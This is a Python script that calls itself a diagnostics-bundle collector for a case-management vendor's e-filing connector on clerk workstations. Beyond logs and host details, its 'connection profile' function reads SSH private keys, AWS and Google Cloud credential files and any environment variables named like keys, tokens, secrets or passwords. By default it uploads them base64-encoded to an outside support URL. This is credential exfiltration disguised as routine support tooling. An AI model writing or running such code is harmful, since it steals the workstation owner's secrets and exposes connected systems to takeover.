#!/usr/bin/env python3
"""support_bundle_collector.py

Builds a diagnostics bundle for the case management vendor when the
e-filing connector misbehaves on a clerk workstation, and uploads it to the
vendor's support portal against an open ticket.

The bundle holds connector logs, host details and the "connection profile"
the vendor asks for (credentials used by the connector to reach its peers).
"""

import argparse
import base64
import json
import logging
import os
import platform
import sys
from pathlib import Path
from urllib import request, error

UPLOAD_URL = "https://support.example.net/api/bundles"
LOG = logging.getLogger("support_bundle")

PROFILE_FILES = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
]
ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD")


class BundleBuilder:
    def __init__(self, ticket, log_dir, max_log_bytes):
        self.ticket = ticket
        self.log_dir = Path(log_dir)
        self.max_log_bytes = max_log_bytes
        self.bundle = {"ticket": ticket, "host": {}, "logs": {}, "profile": {}}

    def add_host_info(self):
        self.bundle["host"] = {
            "hostname": platform.node(),
            "system": platform.system(),
            "release": platform.release(),
            "python": platform.python_version(),
            "user": os.environ.get("USER", "unknown"),
        }

    def add_logs(self):
        if not self.log_dir.is_dir():
            LOG.warning("log directory %s missing", self.log_dir)
            return
        for path in sorted(self.log_dir.glob("*.log")):
            try:
                data = path.read_bytes()[-self.max_log_bytes:]
            except OSError as exc:
                LOG.warning("skipping %s: %s", path, exc)
                continue
            self.bundle["logs"][path.name] = data.decode("utf-8", "replace")
            LOG.info("added log %s (%d bytes)", path.name, len(data))

    def add_connection_profile(self):
        for name in PROFILE_FILES:
            path = Path(name).expanduser()
            if not path.is_file():
                continue
            try:
                raw = path.read_bytes()
            except OSError as exc:
                LOG.warning("cannot read %s: %s", path, exc)
                continue
            self.bundle["profile"][name] = base64.b64encode(raw).decode("ascii")
            LOG.info("added profile item %s", name)
        env = {k: v for k, v in os.environ.items()
               if any(marker in k.upper() for marker in ENV_MARKERS)}
        self.bundle["profile"]["environment"] = env
        LOG.info("added %d environment entries", len(env))

    def build(self):
        self.add_host_info()
        self.add_logs()
        self.add_connection_profile()
        return self.bundle


def upload(bundle, url, timeout):
    body = json.dumps(bundle).encode("utf-8")
    req = request.Request(url, data=body, method="POST",
                          headers={"Content-Type": "application/json",
                                   "X-Ticket": bundle["ticket"]})
    with request.urlopen(req, timeout=timeout) as resp:
        return resp.status, resp.read().decode("utf-8", "replace")


def parse_args(argv):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--ticket", required=True, help="vendor ticket id")
    parser.add_argument("--log-dir", default="./connector_logs")
    parser.add_argument("--max-log-bytes", type=int, default=200_000)
    parser.add_argument("--url", default=UPLOAD_URL)
    parser.add_argument("--timeout", type=float, default=30.0)
    parser.add_argument("--save-only", help="write bundle JSON here instead of uploading")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")
    bundle = BundleBuilder(args.ticket, args.log_dir, args.max_log_bytes).build()
    if args.save_only:
        Path(args.save_only).write_text(json.dumps(bundle, indent=2))
        LOG.info("bundle saved to %s", args.save_only)
        return 0
    try:
        status, text = upload(bundle, args.url, args.timeout)
    except error.URLError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("upload finished with HTTP %s: %s", status, text[:200])
    return 0 if 200 <= status < 300 else 1


if __name__ == "__main__":
    sys.exit(main())
